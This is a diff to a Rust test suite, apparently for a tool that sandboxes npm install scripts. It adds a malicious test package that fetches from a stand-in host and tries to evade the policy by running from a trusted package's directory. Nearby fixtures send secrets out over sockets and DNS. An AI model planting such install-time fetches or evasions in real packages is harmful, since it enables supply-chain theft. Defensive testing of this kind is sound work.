@@ -83,6 +83,14 @@ const FETCH: &str = "require('http').get('http://files.test:@FILES@/prebuilt', a
 }).on('error', error => { console.error(error); process.exit(1) });
 ";
 
+/// The same, in a script that must not get it.
+const FETCH_QUIETLY: &str =
+    "require('http').get('http://files.test:@FILES@/stolen', answer => answer.resume())
+    .on('error', error => console.log(error.code));
+";
+
+const BESIDE: &str = "cd ../good && node ../evil-elsewhere/fetch.js";
+
 /// The same places by node's own means.
 const BEACON: &str =
     "require('net').connect(@BEACON@, '127.0.0.1', function () { this.end('secret') })
@@ -98,7 +106,9 @@ const LOOKUP: &str = "require('dns').lookup('@SECRET@', (error, address) => {
 type Evil<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], &'a str, &'a str);
 
 /// Publishes them, and says what must be found.
-fn evil_packages(world: &World) -> Vec<Finding> {
+///
+/// `elsewhere` starts `fetch.js` in the good package's directory.
+fn evil_packages(world: &World, elsewhere: &str) -> Vec<Finding> {
     let beacon = format!("127.0.0.1:{}/tcp", world.beacon.port());
     let python = python_name();
     let mut all: Vec<Evil<'_>> = vec![
@@ -148,6 +158,11 @@ fn evil_packages(world: &World) -> Vec<Finding> {
         publish(world, name, script, files);
         findings.push(finding(name, app, to));
     }
+    // Where the rules would let the good one fetch what it needs.
+    let files = format!("files.test:{}/tcp", world.files.port());
+    let fetch = [("fetch.js", FETCH_QUIETLY)];
+    publish(world, "evil-elsewhere", elsewhere, &fetch);
+    findings.push(finding("evil-elsewhere in good", "fetch.js", &files));
     // No rule can be for these.
     findings.push(finding("evil-raw", "raw.py", "sockets of family 17"));
     match program {
@@ -171,7 +186,7 @@ fn finding(name: &str, app: &str, to: &str) -> Finding {
 
 /// Learns from the good package, then meets the evil ones.
 #[track_caller]
-fn good_then_evil(world: &World, command: &str, env: &[(&str, String)]) {
+fn good_then_evil(world: &World, command: &str, env: &[(&str, String)], elsewhere: &str) {
     publish(world, "good", "node fetch.js", &[("fetch.js", FETCH)]);
     project(world, "app", &["good"]);
     let run = |project| Run {
@@ -182,9 +197,12 @@ fn good_then_evil(world: &World, command: &str, env: &[(&str, String)]) {
     let policy = world.round_trip(&run("app"));
     assert!(policy.contains("package:npm:good"), "{policy}");
     assert!(world.files.connections() > 0);
-    let findings = evil_packages(world);
+    let findings = evil_packages(world, elsewhere);
     let mut packages = vec!["good"];
-    packages.extend(findings.iter().map(|it| &it.package["npm:".len()..]));
+    for finding in &findings {
+        let name = &finding.package["npm:".len()..];
+        packages.push(name.split(' ').next().unwrap());
+    }
     project(world, "victim", &packages);
     expect_refused(world, &run("victim"), &findings);
 }
@@ -194,7 +212,7 @@ fn install_scripts() {
     if missing("npm") || missing("python3") || !alone("npm::install_scripts") {
         return;
     }
-    good_then_evil(&World::new(), CI, &[]);
+    good_then_evil(&World::new(), CI, &[], BESIDE);
 }
 
 #[test]
@@ -210,7 +228,9 @@ fn install_scripts_under_pnpm() {
         "rm -rf node_modules package-lock.json pnpm-lock.yaml ~/.local && node {pnpm} install --no-frozen-lockfile \
          --config.dangerouslyAllowAllBuilds=true --config.manage-package-manager-versions=false"
     );
-    good_then_evil(&World::new(), &command, &[]);
+    // Packages are not beside each other in its store.
+    let elsewhere = r#"here=$PWD; cd "$INIT_CWD/node_modules/good" && node "$here/fetch.js""#;
+    good_then_evil(&World::new(), &command, &[], elsewhere);
 }
 
 #[test]
@@ -225,7 +245,7 @@ fn install_scripts_under_yarn() {
     let command = format!(
         "rm -rf node_modules package-lock.json yarn.lock ~/.cache && node {yarn} install --non-interactive"
     );
-    good_then_evil(&World::new(), &command, &[]);
+    good_then_evil(&World::new(), &command, &[], BESIDE);
 }
 
 #[test]
@@ -247,5 +267,5 @@ fn install_scripts_under_the_newer_yarn() {
     let command = format!(
         "rm -rf node_modules package-lock.json yarn.lock ../.yarn .yarn && touch yarn.lock && node {yarn} install --inline-builds"
     );
-    good_then_evil(&world, &command, &[("CI", "false".to_owned())]);
+    good_then_evil(&world, &command, &[("CI", "false".to_owned())], BESIDE);
 }
